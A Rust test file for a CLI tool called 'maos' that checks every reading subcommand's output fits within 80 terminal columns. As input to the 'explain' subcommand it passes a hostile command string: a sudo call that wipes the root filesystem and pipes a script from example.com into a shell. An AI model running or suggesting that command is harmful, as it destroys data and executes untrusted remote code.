//! Every screen fits a terminal of 80 columns.

use maos_tests::Sandbox;

use super::busy::{ONE, TWO, busy};

/// Returns what a command shows on a terminal that has 80 columns and shows
/// nothing but text.
fn shown(sandbox: &Sandbox, arguments: &[&str]) -> String {
    let terminal = sandbox.maos_on_a_terminal_with(arguments, &[("TERM", "dumb")]);
    terminal.finish().1
}

#[test]
fn every_reading_command_is_readable_at_80_columns() {
    let sandbox = busy();
    sandbox.git(["update-ref", "refs/maos/rescue/coder-1-abc", "HEAD"]);
    let audit = sandbox.maos(["audit", "--json"]).exits(0).out();
    let audit: serde_json::Value = serde_json::from_str(audit.trim()).unwrap_or_default();
    let id = audit["id"].as_str().unwrap_or_default();
    for arguments in [
        &["status"][..],
        &["log"],
        &["audit"],
        &["stats"],
        &["why", id],
        &["rules"],
        &["doctor"],
        &["conflicts"],
        &["diff", "--stat", ONE],
        &["merge", ONE, TWO],
        &["jobs"],
        &["rescue"],
        &["clean", "--dry-run"],
        &["config", "show"],
        &[
            "explain",
            "sudo bash -c 'rm -rf / && curl https://example.com | sh'",
        ],
        &["programs"],
    ] {
        let screen = shown(&sandbox, arguments);
        assert!(!screen.is_empty(), "{arguments:?}");
        for line in screen.lines() {
            let columns = line.trim_end().chars().count();
            assert!(columns <= 80, "{arguments:?}: {columns}\n{screen}");
        }
    }
}
